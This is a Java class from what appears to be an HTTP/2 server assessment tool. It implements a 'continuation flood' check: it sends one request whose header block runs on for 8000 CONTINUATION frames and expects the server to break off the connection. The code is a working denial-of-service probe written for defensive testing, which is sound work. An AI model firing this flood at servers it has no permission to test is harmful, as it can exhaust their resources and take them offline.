package dev.countersign.assessment;

import java.io.IOException;
import java.security.GeneralSecurityException;
import java.util.List;

/** A header block that never ends. */
final class ContinuationFlood extends Abuse {
  private static final int BATCHES = 80;
  private static final int PER_BATCH = 100;

  private final byte[] fragment;

  private ContinuationFlood(String name, String tries, byte[] fragment) {
    super(About.of(name, Group.PROTOCOL, Severity.HIGH)
        .tries("A request whose header block goes on for 8000 frames " + tries + ".")
        .safe("The connection is ended long before all were sent.")
        .source("VU#421644; CVE-2026-33871")
        .remedy("Bound the bytes and the frames of a header block."));
    this.fragment = fragment.clone();
  }

  static List<Check> all() {
    return List.of(
        new ContinuationFlood(
            "continuation-flood",
            "of a small header field each",
            new HeaderBlock().add("x-flood", "0123456789").bytes()),
        new ContinuationFlood("continuation-flood-empty", "of nothing", new byte[0]));
  }

  @Override
  boolean isToBeBrokenOff() {
    return true;
  }

  @Override
  Outcome misbehave(Attack attack)
      throws IOException, GeneralSecurityException, InterruptedException, CannotRunException {
    try (RawHttp2 connection = attack.connect()) {
      int stream = connection.newStream();
      connection.frame(
          Frame.HEADERS, 0, stream, HeaderBlock.request(attack.path()).bytes());
      return Flood.of(connection, BATCHES, (to, number) -> {
            for (int i = 0; i < PER_BATCH; i++) {
              to.frame(Frame.CONTINUATION, 0, stream, fragment);
            }
          })
          .mustBeCut(BATCHES * PER_BATCH + " frames of one header block");
    }
  }
}
